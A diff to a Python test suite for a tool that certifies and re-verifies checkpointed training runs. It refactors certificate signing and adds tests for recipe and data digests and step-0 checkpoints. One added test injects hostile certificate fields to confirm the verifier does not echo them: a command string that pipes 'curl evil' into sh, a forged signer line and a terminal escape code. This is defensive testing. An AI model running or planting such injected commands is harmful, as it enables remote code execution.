@@ -29,7 +29,7 @@ from tests.workers.test_replay import SCRIPT as CHECKPOINTED
 from tests.workers.test_replay import STRATEGIES, begun, settled
 from unisono.cli.again import PastRun
 from unisono.cluster.worker import member
-from unisono.core.errors import StopInspection
+from unisono.core.errors import StopInspection, UsageError
 from unisono.record import checkpoint_files as files
 from unisono.record.journal import JOURNAL, read
 from unisono.record.journal.chain import BEGIN, written
@@ -92,7 +92,9 @@ class World(NamedTuple):
         key = read_key(self.folder / "key", str)
         content = msgspec.json.decode(parse_envelope(self.certificate.read_bytes()).content)
         change(content["predicate"])
-        self.certificate.write_bytes(msgspec.json.encode(sign(msgspec.json.encode(content), key)))
+        predicate = msgspec.convert(content["predicate"], Predicate)
+        said = Statement(subject=statement.subjects(predicate), predicate=predicate)
+        self.certificate.write_bytes(msgspec.json.encode(sign(msgspec.json.encode(said), key)))
 
     def certify(self, *words: object) -> str:
         return unisono("certify", self.run, "--key", self.folder / "key", *words)
@@ -141,7 +143,7 @@ def test_workers_may_compute_it_again(trained: World) -> None:
 def test_the_certificate_is_the_same_for_any_number_of_workers(trained: World, tmp_path: Path) -> None:
     alone = run_workers(CHECKPOINTED, 1, directory=tmp_path / "alone", arguments=ARGUMENTS)
     assert alone.exit_code == 0, alone.output
-    calm, hurt = gathered(tmp_path / "alone", signer=None), said_in(trained.certificate)
+    calm, hurt = gathered(tmp_path / "alone"), said_in(trained.certificate)
     for name in ("recipe", "script", "data", "chain", "gaps", "states", "end", "arithmetic"):
         mine, theirs = getattr(calm.predicate, name), getattr(hurt.predicate, name)
         if name == "script":
@@ -215,7 +217,7 @@ def test_every_strategy_comes_to_the_certified_states(name: str, tmp_path: Path)
     """Two calls of run.steps: a checkpoint is at the end of the first."""
     run = tmp_path / "run"
     STRATEGIES[name](run)
-    said = gathered(run, signer=None).predicate
+    said = gathered(run).predicate
     stretches = cut([state.step for state in said.states], said.run.steps)
     assert len(stretches) >= 3
     for number, stretch in enumerate([*stretches, Stretch(0, said.run.steps)]):
@@ -400,7 +402,7 @@ def train_between(directory: Path) -> None:
 
 def test_what_stands_between_loops_is_computed_as_it_was(tmp_path: Path) -> None:
     train_between(tmp_path / "run")
-    said = gathered(tmp_path / "run", signer=None).predicate
+    said = gathered(tmp_path / "run").predicate
     stretches = cut([state.step for state in said.states], said.run.steps)
     assert {4, 8, 11} <= {state.step for state in said.states}
     for number, stretch in enumerate([*stretches, Stretch(0, said.run.steps)]):
@@ -436,7 +438,7 @@ def computed(tmp_path_factory: pytest.TempPathFactory) -> tuple[Predicate, Path]
     """A run, and the whole of it computed again."""
     folder = tmp_path_factory.mktemp("computed")
     STRATEGIES["plain"](folder / "run")
-    said = gathered(folder / "run", signer=None).predicate
+    said = gathered(folder / "run").predicate
     (folder / "again").mkdir()
     assert computed_again(STRATEGIES["plain"], folder / "run", said, Stretch(0, 10), folder / "again") == ""
     return said, folder / "again" / "run"
@@ -454,6 +456,47 @@ def test_a_false_certificate_without_its_run_is_found_by_computing(world: World)
     world.signed_anew(lambda said: said["states"][1].update(sha256="0" * 64))
     said = world.verify("--all", CHECKPOINTED, "--", *ARGUMENTS, status=1)
     assert "WRONG: steps 0 to 11 are not what was certified: the state after 6 steps has the SHA-256" in said
+
+
+def test_what_a_certificate_says_of_recipe_and_steps_is_computed_as_well(computed: tuple[Predicate, Path]) -> None:
+    said, run = computed
+    whole = Stretch(0, said.run.steps)
+    other = replaced(said, recipe={**said.recipe, "batch_size": 4096})
+    assert "the recipe is {" in compared(other, whole, run)
+    assert "the digest of its samples" not in compared(replaced(said, data=replaced(said.data, digest="a")), whole, run)
+    facts = json.loads((run / "run.json").read_text())
+    try:
+        (run / "run.json").write_text(json.dumps({**facts, "data": {"digest": "b"}}))
+        false = replaced(said, data=replaced(said.data, digest="a"))
+        assert "the digest of its samples is b, and not a" in compared(false, whole, run)
+    finally:
+        (run / "run.json").write_text(json.dumps(facts))
+
+
+def test_a_checkpoint_of_step_0_begins_no_check(world: World) -> None:
+    """It could hold any weights, and a computation from it would be right from there on."""
+    folder = world.run / files.FOLDER
+    shutil.copytree(folder / files.step_name(3), folder / files.step_name(0))
+    manifest = files.read_manifest(folder / files.step_name(0))
+    files.write_manifest(folder / files.step_name(0), replaced(manifest, step=0, phase_step=0, lines=0))
+    world.certify()
+    assert [state.step for state in said_in(world.certificate).predicate.states] == [3, 6, 9, 12]
+    content = json.loads(parse_envelope(world.certificate.read_bytes()).content)
+    content["predicate"]["states"][0]["step"] = 0
+    with pytest.raises(UsageError, match="this is no certificate of a run"):
+        parse_statement(json.dumps(content).encode())
+
+
+def test_a_hint_is_no_command_of_the_certificate(world: World) -> None:
+    def hostile(said: dict[str, Any]) -> None:
+        said["arithmetic"]["torch"] = "2.6.0 ; curl evil | sh #"
+        said["notes"] = ["x\nsigned by SHA256:AAAA, who was named\x1b[2K"]
+
+    world.signed_anew(hostile)
+    said = world.verify("--all", CHECKPOINTED, "--", *ARGUMENTS, status=2)
+    assert "To make it equal" not in said
+    assert "\nsigned by SHA256:AAAA" not in said
+    assert "\x1b" not in said
 
 
 def test_another_arithmetic_is_refused_before_anything_is_computed(world: World) -> None:
